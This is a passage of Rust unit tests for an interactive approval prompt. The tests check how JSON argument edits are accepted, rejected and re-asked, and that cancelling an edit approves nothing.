        let edited = json!({"content": "2 \\n \"\nmore\nthree\n", "mode": 8});
        assert_eq!(answers, [format!("c1 yes {edited}")]);
        for line in [
            "1. content: 3 lines, 14 characters",
            "   2 | two",
            "> 2 | two",
            "There is no such line.",
            "> mode (JSON): 7",
        ] {
            assert!(seen.contains(&line.to_owned()), "{line}: {seen:?}");
        }
        assert!(seen.iter().any(|it| it.starts_with("No JSON: mode (JSON):")), "{seen:?}");
    }

    #[test]
    fn edited_text_that_is_no_object_is_kept_and_asked_again() {
        for (bad, why) in [
            ("", "nothing was typed"),
            ("[1]", "it has to begin with {"),
            ("null", "it has to begin with {"),
            (r#"{"path": "b""#, "No JSON"),
            (r#"{"path": "b", "path": "c"}"#, "path"),
        ] {
            let (answers, seen) = run(&["e", "j", bad, "{}", "a", "D", "y"].map(Ok));
            assert_eq!(answers, ["c1 yes {}", "c2 no", "c3 no"]);
            let again = seen.iter().position(|line| *line == format!("> args: {bad}")).unwrap();
            let told = seen[..again].iter().rposition(|line| line.starts_with("No JSON: "));
            let told = seen[told.unwrap()..again].join(" ");
            assert!(told.contains(why), "{told}");
        }
    }

    #[test]
    fn an_edit_can_be_given_up_and_approves_nothing_by_itself() {
        let open = ["c1 no", "c2 no", "c3 no"];
        assert_eq!(run(&[Ok("e"), Err(Gone::Cancelled), Ok("D"), Ok("y")]).0, open);
        assert_eq!(run(&[Ok("d"), Err(Gone::Cancelled), Ok("D"), Ok("y")]).0, open);
        assert_eq!(answers(&["e", "", "D", "y"]), open);
        assert_eq!(answers(&["e", "j", r#"{ "path": "a.log" }"#, "D", "y"]), open);
        assert_eq!(answers(&["e", "j", "{}", "", "D", "y"]), open);
        assert_eq!(answers(&["e", "j", "{}", "A", "D", "y"]), open);
        assert_eq!(
            answers(&["e", "j", "{}", "e", "j", r#"{"path":"z"}"#, "y", "D", "y"])[0],
            r#"c1 yes {"path":"z"}"#
        );
    }
}
